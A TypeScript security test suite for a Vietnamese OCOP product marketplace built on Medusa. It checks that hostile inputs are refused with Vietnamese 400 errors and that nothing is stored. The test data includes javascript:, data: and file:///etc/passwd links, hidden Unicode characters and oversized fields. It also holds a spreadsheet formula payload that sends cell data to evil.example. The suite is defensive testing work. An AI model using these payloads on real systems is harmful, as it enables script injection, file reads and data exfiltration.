import { ContainerRegistrationKeys, Modules } from "@medusajs/framework/utils"
import { addDays, vietnamDate } from "@ocop/domain"
import ExcelJS from "exceljs"
import { createOfficeUser } from "../helpers/admin"
import { attack, defineAttackArea, type AttackProbe } from "../helpers/attacks"
import { demoProduct, seedDemoCatalogue } from "../helpers/demo-catalogue"
import { bearer, onboardProducer } from "../helpers/producer"
import { openSalesPoint, putStock } from "../helpers/retail"

/**
 * Hostile input: links that run script or read local files, characters that break storage or hide
 * text, text far longer than any form allows, out-of-range numbers, shopper-made payment data and
 * producer text that a spreadsheet would run as a formula. Every text and link field refuses with a
 * 400 in Vietnamese and stores nothing; exported cells are neutralised.
 */
type Fixture = {
  office: Record<string, string>
  producerToken: string
  producerId: string
  fresh: { id: string }
  formula: { id: string; title: string; certificateId: string }
  point: { id: string; publishableKey: string }
  store: Record<string, string>
  cart: { id: string; paymentCollectionId: string }
  customerToken: string
}

const today = (days = 0) => addDays(vietnamDate(new Date()), days)
const FORMULA_TITLE = '=HYPERLINK("https://evil.example/?d="&A1,"Mật ong rừng")'
const HOSTILE_URLS = {
  "javascript:": "javascript:alert(document.cookie)",
  "data:": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "file:": "file:///etc/passwd",
}
const URL_MESSAGE = "Đường dẫn phải bắt đầu bằng https://"
const UNSAFE_TEXT = "ký tự điều khiển hoặc ký tự ẩn"
const STRONG_PASSWORD = "Mat-khau-Manh-2026!"

/** Tables whose rows a refused request could have written. */
const WATCHED_TABLES = [
  "product",
  "product_variant",
  "image",
  "producer",
  "certificate",
  "certificate_event",
  "sales_point",
  "cart",
  "cart_address",
  "customer",
  "customer_address",
  "payment_session",
  "payment",
]

export default defineAttackArea<Fixture>({
  name: "input",
  async setup({ api, getContainer }) {
    const container = getContainer()
    const { storeHeaders, regionId } = await seedDemoCatalogue(container)
    const { headers: office } = await createOfficeUser(container, "input-office@ocop.test")
    const asOffice = { headers: office }
    const producer = await onboardProducer(api, "input-producer@ocop.test", "HTX Mật ong Hương Khê")
    await api.post(`/admin/ocop/producers/${producer.producer.id}/approval`, { decision: "approve" }, asOffice)

    let sku = 0
    const product = async (title: string) =>
      (
        await api.post(
          "/producer/products",
          { title, product_set_code: 8, variants: [{ title: "Hũ 500 g", sku: `INPUT-ATK-${++sku}`, price: 180000, stock: 10 }] },
          bearer(producer.token)
        )
      ).data.product as { id: string; variants: { id: string }[] }

    const fresh = await product("Mật ong hoa nhãn chưa chứng nhận")
    // A producer may name a product anything printable; the title is only dangerous in a spreadsheet.
    const formula = await product(FORMULA_TITLE)
    const { data: recorded } = await api.post(
      "/admin/ocop/certificates",
      {
        product_id: formula.id,
        decision_number: "88/QĐ-UBND",
        issuer: "UBND tỉnh Hà Tĩnh",
        stars: 4,
        product_set: 8,
        issued_at: today(-60),
      },
      asOffice
    )

    // a point of sale holding the product, whose feed an external POS imports as CSV
    const point = await openSalesPoint(api, office, "Điểm bán Nhập liệu")
    const { data: variants } = await container
      .resolve(ContainerRegistrationKeys.QUERY)
      .graph({ entity: "product", fields: ["variants.id"], filters: { id: formula.id } })
    await putStock(container, (variants[0] as any).variants[0].id, point.stock_location.id, 6)

    // a shopper's cart with a listable demo product, delivery chosen, payment collection open
    const headers = { headers: storeHeaders }
    const honey = await demoProduct(container, "HT05")
    const { data: created } = await api.post("/store/carts", { region_id: regionId }, headers)
    await api.post(`/store/carts/${created.cart.id}/line-items`, { variant_id: honey.variants[0].id, quantity: 1 }, headers)
    await api.post(
      `/store/carts/${created.cart.id}`,
      {
        email: "nguoi-mua@example.vn",
        shipping_address: {
          first_name: "Lan",
          last_name: "Nguyễn",
          address_1: "12 Phan Đình Phùng",
          city: "Hà Tĩnh",
          country_code: "vn",
          phone: "0912345678",
        },
      },
      headers
    )
    const { data: options } = await api.get(`/store/shipping-options?cart_id=${created.cart.id}`, headers)
    await api.post(`/store/carts/${created.cart.id}/shipping-methods`, { option_id: options.shipping_options[0].id }, headers)
    const { data: collection } = await api.post("/store/payment-collections", { cart_id: created.cart.id }, headers)

    // a registered shopper with an account (for the address book)
    const { data: registered } = await api.post("/auth/customer/emailpass/register", {
      email: "input-shopper@example.vn",
      password: STRONG_PASSWORD,
    })
    await api.post(
      "/store/customers",
      { email: "input-shopper@example.vn", first_name: "Lan" },
      { headers: { ...storeHeaders, authorization: `Bearer ${registered.token}` } }
    )
    const { data: login } = await api.post("/auth/customer/emailpass", { email: "input-shopper@example.vn", password: STRONG_PASSWORD })

    return {
      office,
      producerToken: producer.token,
      producerId: producer.producer.id,
      fresh: { id: fresh.id },
      formula: { id: formula.id, title: FORMULA_TITLE, certificateId: recorded.certificate.id },
      point: { id: point.id, publishableKey: point.publishable_key },
      store: storeHeaders,
      cart: { id: created.cart.id, paymentCollectionId: collection.payment_collection.id },
      customerToken: login.token,
    }
  },

  register({ api, getContainer }, fixture) {
    const asProducer = () => bearer(fixture().producerToken)
    const asOffice = () => ({ headers: fixture().office })
    const asShop = () => ({ headers: fixture().store })
    const asCustomer = () => ({ headers: { ...fixture().store, authorization: `Bearer ${fixture().customerToken}` } })

    const pg = () => getContainer().resolve(ContainerRegistrationKeys.PG_CONNECTION)

    /** Row count and last update of every watched table: a refused request leaves all of them as they were. */
    const fingerprint = async () => {
      const parts: string[] = []
      for (const table of WATCHED_TABLES) {
        const { rows: exists } = await pg().raw(`SELECT to_regclass(?) AS t`, [`public.${table}`])
        if (!exists[0].t) continue
        const { rows } = await pg().raw(`SELECT count(*)::int AS n, max(updated_at)::text AS at FROM "${table}"`)
        parts.push(`${table}:${rows[0].n}:${rows[0].at}`)
      }
      return parts
    }

    /** Nothing stored or changed: the watched tables, and no hostile text anywhere in them. */
    const storesNothing = (run: (probe: AttackProbe) => Promise<void>, hostile?: string) => async (probe: AttackProbe) => {
      const before = await fingerprint()
      await run(probe)
      await probe.unchanged(async () => {
        expect(await fingerprint()).toEqual(before)
        if (hostile) {
          for (const table of WATCHED_TABLES) {
            const { rows: exists } = await pg().raw(`SELECT to_regclass(?) AS t`, [`public.${table}`])
            if (!exists[0].t) continue
            const { rows } = await pg().raw(`SELECT count(*)::int AS n FROM "${table}" t WHERE strpos(row_to_json(t)::text, ?) > 0`, [
              hostile,
            ])
            expect(`${table}:${rows[0].n}`).toBe(`${table}:0`)
          }
        }
      })
    }

    const submission = (fields: Record<string, unknown>) => ({
      product_id: fixture().fresh.id,
      decision_number: "12/QĐ-UBND",
      decision_date: today(-10),
      issuer: "UBND tỉnh Hà Tĩnh",
      stars: 4,
      score: 80,
      scan_url: "https://ocop.example/quyet-dinh.pdf",
      ...fields,
    })
    const record = (fields: Record<string, unknown>) => ({
      product_id: fixture().fresh.id,
      decision_number: "13/QĐ-UBND",
      issuer: "UBND tỉnh Hà Tĩnh",
      stars: 4,
      product_set: 8,
      issued_at: today(-30),
      ...fields,
    })
    const newProduct = (fields: Record<string, unknown>) => ({
      title: "Mật ong bạc hà",
      product_set_code: 8,
      variants: [{ title: "Hũ 250 g", sku: "INPUT-NEW-1", price: 120000 }],
      ...fields,
    })

    // 1. Links: only https (or our own uploads) may be stored, since the admin and the portal render them as links.
    const urlFields: Array<[string, (url: string) => Promise<any>]> = [
      ["a producer's logo", (url) => api.post("/producer/me", { logo_url: url }, asProducer())],
      ["a new product's thumbnail", (url) => api.post("/producer/products", newProduct({ thumbnail: url }), asProducer())],
      [
        "a product's photos",
        (url) => api.post(`/producer/products/${fixture().fresh.id}`, { images: ["https://ocop.example/a.jpg", url] }, asProducer()),
      ],
      ["a submitted decision scan", (url) => api.post("/producer/certificates", submission({ scan_url: url }), asProducer())],
      [
        "a re-evaluation dossier",
        (url) =>
          api.post(`/producer/certificates/${fixture().formula.certificateId}/reevaluation`, { dossier_file_url: url }, asProducer()),
      ],
      ["the office's decision document", (url) => api.post("/admin/ocop/certificates", record({ document_url: url }), asOffice())],
      [
        "the office's suspension document",
        (url) =>
          api.post(
            `/admin/ocop/certificates/${fixture().formula.certificateId}/transitions`,
            { to: "suspended", reason: "Kiểm tra an toàn thực phẩm", document_url: url },
            asOffice()
          ),
      ],
    ]
    for (const [field, send] of urlFields) {
      for (const [scheme, url] of Object.entries(HOSTILE_URLS)) {
        attack(
          `a ${scheme} link as ${field}`,
          storesNothing(async (probe) => {
            const res = await probe.refused(send(url), [400])
            expect(res.data.message).toContain(URL_MESSAGE)
          }, url)
        )
      }
    }

    attack(
      "a plain-http link to someone else's server as a producer's logo",
      storesNothing(async (probe) => {
        const res = await probe.refused(api.post("/producer/me", { logo_url: "http://evil.example/logo.png" }, asProducer()), [400])
        expect(res.data.message).toContain(URL_MESSAGE)
      }, "http://evil.example/logo.png")
    )

    // 2. Characters that break storage or hide text
    attack(
      "a NUL byte in a product title (was a 500)",
      storesNothing(async (probe) => {
        const res = await probe.refused(api.post("/producer/products", newProduct({ title: "Mật ong\u0000rừng" }), asProducer()), [400])
        expect(res.data.message).toContain("NUL")
      })
    )
    attack(
      "a NUL byte in the office's decision number (was a 500)",
      storesNothing(async (probe) => {
        const res = await probe.refused(api.post("/admin/ocop/certificates", record({ decision_number: "13\u0000/QĐ" }), asOffice()), [400])
        expect(res.data.code).toBe("ocop.input.nul")
      })
    )
    attack(
      "a NUL byte in a checkout address, through Medusa's own cart route",
      storesNothing(async (probe) => {
        const res = await probe.refused(
          api.post(`/store/carts/${fixture().cart.id}`, { shipping_address: { address_1: "12 Trần Phú\u0000" } }, asShop()),
          [400]
        )
        expect(res.data.message).toContain("NUL")
      })
    )
    attack(
      "a NUL byte hidden in a nested key and in a query string",
      storesNothing(async (probe) => {
        await probe.refused(api.post(`/store/carts/${fixture().cart.id}`, { metadata: { "a\u0000b": "x" } }, asShop()), [400])
        const res = await probe.refused(api.get(`/store/ocop/search?q=${encodeURIComponent("mật\u0000ong")}`, asShop()), [400])
        expect(res.data.code).toBe("ocop.input.nul")
      })
    )

    for (const [name, char] of [
      ["a right-to-left override", "\u202E"],
      ["a left-to-right isolate", "\u2066"],
      ["a zero-width space", "\u200B"],
      ["a zero-width joiner", "\u200D"],
      ["a byte-order mark", "\uFEFF"],
    ] as const) {
      attack(
        `${name} inside a product title`,
        storesNothing(async (probe) => {
          const res = await probe.refused(
            api.post("/producer/products", newProduct({ title: `Mật ong${char} rừng gpj.exe` }), asProducer()),
            [400]
          )
          expect(res.data.message).toContain(UNSAFE_TEXT)
        }, char)
      )
    }
    attack(
      "a bidi override when renaming an uncertified product and in a sales point's name",
      storesNothing(async (probe) => {
        await probe.refused(api.post(`/producer/products/${fixture().fresh.id}`, { title: "Mật ong \u202Eđổi chiều" }, asProducer()), [400])
        const res = await probe.refused(
          api.post(
            "/admin/ocop/sales-points",
            { name: "Điểm bán \u202Egnáb", location_category: "tourist_site", province_code: "42" },
            asOffice()
          ),
          [400]
        )
        expect(res.data.message).toContain("ký tự điều khiển")
      }, "\u202E")
    )

    attack(
      "a zero-width space in a product title through Medusa admin's own product route",
      storesNothing(async (probe) => {
        const res = await probe.refused(
          api.post(`/admin/products/${fixture().fresh.id}`, { title: "Mật ong\u200B rừng" }, asOffice()),
          [400]
        )
        expect(res.data.message).toContain(UNSAFE_TEXT)
      }, "\u200B")
    )

    // 3. Lengths and numbers
    // ASCII, so the body stays under Medusa's 100 kB JSON limit and reaches our validators (a larger body is a 413)
    const huge = "1".repeat(100_000)
    attack(
      "a 100,000-character decision number from a producer",
      storesNothing(
        async (probe) => {
          const res = await probe.refused(
            api.post("/producer/certificates", submission({ decision_number: `${huge}/QĐ` }), asProducer()),
            [400]
          )
          expect(res.data.message).toContain("Tối đa 100 ký tự")
        },
        huge.slice(0, 200)
      )
    )
    attack(
      "a 100,000-character decision number from the office",
      storesNothing(
        async (probe) => {
          const res = await probe.refused(
            api.post("/admin/ocop/certificates", record({ decision_number: `${huge}/QĐ` }), asOffice()),
            [400]
          )
          expect(res.data.message).toContain("Tối đa 100 ký tự")
        },
        huge.slice(0, 200)
      )
    )
    attack(
      "a 300 kB product description (over the JSON body limit)",
      storesNothing(async (probe) => {
        const res = await probe.refused(
          api.post(`/producer/products/${fixture().fresh.id}`, { description: "Mật ong rừng nguyên chất. ".repeat(10_000) }, asProducer()),
          [413]
        )
        expect(res.data.message).toContain("Dữ liệu gửi lên quá lớn")
      })
    )
    attack(
      "score 101 on a producer's submission (was a 500)",
      storesNothing(async (probe) => {
        const res = await probe.refused(api.post("/producer/certificates", submission({ score: 101 }), asProducer()), [400])
        expect(res.data.message).toContain("Điểm phải là số từ 0 đến 100")
      })
    )
    attack(
      "score 101 and score -1 on the office's record (was a 500)",
      storesNothing(async (probe) => {
        await probe.refused(api.post("/admin/ocop/certificates", record({ score: -1 }), asOffice()), [400])
        const res = await probe.refused(api.post("/admin/ocop/certificates", record({ score: 101 }), asOffice()), [400])
        expect(res.data.message).toContain("Điểm phải là số từ 0 đến 100")
      })
    )
    attack(
      "a 20,000-character product description and a 90,000-character producer address",
      storesNothing(async (probe) => {
        await probe.refused(
          api.post(`/producer/products/${fixture().fresh.id}`, { description: "Ngon. ".repeat(3400) }, asProducer()),
          [400]
        )
        const res = await probe.refused(api.post("/producer/me", { address: "Thon 3 ".repeat(13_000) }, asProducer()), [400])
        expect(res.data.message).toContain("Tối đa 500 ký tự")
      })
    )

    // 4. Checkout: Medusa's own cart and address routes
    const cartAddress = async () =>
      (
        await pg().raw(`SELECT a.address_1, a.phone FROM cart c JOIN cart_address a ON a.id = c.shipping_address_id WHERE c.id = ?`, [
          fixture().cart.id,
        ])
      ).rows[0]
    attack(
      "a 90,000-character delivery address at checkout",
      storesNothing(async (probe) => {
        const before = await cartAddress()
        const res = await probe.refused(
          api.post(
            `/store/carts/${fixture().cart.id}`,
            {
              shipping_address: {
                first_name: "Lan",
                address_1: "So 12 ".repeat(15_000),
                city: "Hà Tĩnh",
                country_code: "vn",
                phone: "0912345678",
              },
            },
            asShop()
          ),
          [400]
        )
        expect(res.data.message).toContain("shipping_address.address_1: Tối đa 300 ký tự")
        expect(await cartAddress()).toEqual(before)
      })
    )
    attack(
      'phone "not-a-phone" on the delivery and billing addresses',
      storesNothing(async (probe) => {
        await probe.refused(
          api.post(`/store/carts/${fixture().cart.id}`, { billing_address: { address_1: "1 Trần Phú", phone: "not-a-phone" } }, asShop()),
          [400]
        )
        const res = await probe.refused(
          api.post(`/store/carts/${fixture().cart.id}`, { shipping_address: { address_1: "1 Trần Phú", phone: "not-a-phone" } }, asShop()),
          [400]
        )
        expect(res.data.message).toContain("Số điện thoại di động Việt Nam không hợp lệ")
        expect((await cartAddress()).phone).toBe("0912345678")
      }, "not-a-phone")
    )
    attack(
      "a bad phone and a 90,000-character street in a shopper's address book",
      storesNothing(async (probe) => {
        await probe.refused(api.post("/store/customers/me/addresses", { address_1: "1 Trần Phú", phone: "123" }, asCustomer()), [400])
        const res = await probe.refused(
          api.post("/store/customers/me/addresses", { address_1: "Ngo 5 ".repeat(15_000), phone: "0912345678" }, asCustomer()),
          [400]
        )
        expect(res.data.message).toContain("Tối đa 300 ký tự")
      })
    )
    attack(
      "a bidi override in the shopper's profile name",
      storesNothing(async (probe) => {
        const res = await probe.refused(api.post("/store/customers/me", { first_name: "Lan\u202E" }, asCustomer()), [400])
        expect(res.data.message).toContain(UNSAFE_TEXT)
      }, "\u202E")
    )

    // 5. Payment session data belongs to the provider
    for (const provider of ["pp_vietqr_ocop", "pp_cod_ocop"]) {
      attack(
        `a shopper sends confirmed_at in a ${provider} payment session`,
        storesNothing(async (probe) => {
          const res = await probe.refused(
            api.post(
              `/store/payment-collections/${fixture().cart.paymentCollectionId}/payment-sessions`,
              { provider_id: provider, data: { confirmed_at: "2026-01-01T00:00:00Z", awaiting_confirmation: false } },
              asShop()
            ),
            [400]
          )
          expect(res.data.code).toBe("ocop.payment.data_not_accepted")
        }, "confirmed_at")
      )
    }
    attack("shopper data slipped into a VietQR session past the route is dropped when the payment is authorised", async (probe) => {
      const payments = getContainer().resolve(Modules.PAYMENT)
      const session = await payments.createPaymentSession(fixture().cart.paymentCollectionId, {
        provider_id: "pp_vietqr_ocop",
        amount: 150000,
        currency_code: "vnd",
        data: { confirmed_at: "2026-01-01T00:00:00Z", awaiting_confirmation: false, reference: "FORGED" },
      })
      const payment = (await payments.authorizePaymentSession(session.id, {}))!
      probe.refusedBy(
        "the provider keeps only its own keys: no confirmed_at, its own reference, still awaiting the transfer",
        !("confirmed_at" in (payment.data ?? {})) && payment.data?.reference !== "FORGED" && payment.data?.awaiting_confirmation === true
      )
      await probe.unchanged(async () => {
        const [stored] = await payments.listPayments({ id: payment.id }, { select: ["id", "captured_at", "data"] })
        expect(stored.captured_at ?? null).toBeNull()
        expect(stored.data).not.toHaveProperty("confirmed_at")
        expect(await payments.listCaptures({ payment_id: payment.id })).toHaveLength(0)
        // (Medusa merges session data on update, so the session row itself keeps the caller's keys:
        // the store route refuses shopper data before it gets there — see the two attacks above.)
      })
    })

    // 6. Spreadsheets: producer text never runs as a formula
    const productTitle = async () => (await pg().raw(`SELECT title FROM product WHERE id = ?`, [fixture().formula.id])).rows[0].title
    attack("a product titled =HYPERLINK(…) in a point's CSV feed", async (probe) => {
      const before = await fingerprint()
      const { data: csv } = await api.get("/store/ocop/feed?format=csv", {
        headers: { "x-publishable-api-key": fixture().point.publishableKey },
        responseType: "text",
      })
      const cells = String(csv)
        .replace(/^\uFEFF/, "")
        .split("\n")
        .flatMap((line: string) => line.match(/("([^"]|"")*"|[^,]*)/g) ?? [])
        .map((cell: string) => cell.replace(/^"|"$/g, "").replace(/""/g, '"'))
      probe.refusedBy(
        "the title cell starts with a quote, no cell starts with = + - @",
        cells.includes(`'${FORMULA_TITLE}`) && !cells.some((c: string) => /^[=+\-@\t\r]/.test(c))
      )
      await probe.unchanged(async () => {
        expect(await productTitle()).toBe(FORMULA_TITLE)
        expect(await fingerprint()).toEqual(before)
      })
    })
    attack("a product titled =HYPERLINK(…) in the office's XLSX report", async (probe) => {
      const before = await fingerprint()
      const year = today().slice(0, 4)
      const { data } = await api.get(`/admin/ocop/reports?province_code=42&period=yearly&year=${year}&format=xlsx`, {
        ...asOffice(),
        responseType: "arraybuffer",
      })
      const workbook = new ExcelJS.Workbook()
      await workbook.xlsx.load(Buffer.from(data) as any)
      const texts: string[] = []
      let formulas = 0
      workbook.eachSheet((sheet) =>
        sheet.eachRow((row) =>
          row.eachCell((cell) => {
            if (cell.type === ExcelJS.ValueType.Formula) formulas++
            if (typeof cell.value === "string") texts.push(cell.value)
          })
        )
      )
      probe.refusedBy(
        "the title cell starts with a quote, no text cell starts with = + - @, no formula cells",
        texts.includes(`'${FORMULA_TITLE}`) && !texts.some((t) => /^[=+\-@\t\r]/.test(t)) && formulas === 0
      )
      await probe.unchanged(async () => {
        expect(await productTitle()).toBe(FORMULA_TITLE)
        expect(await fingerprint()).toEqual(before)
      })
    })
  },
})
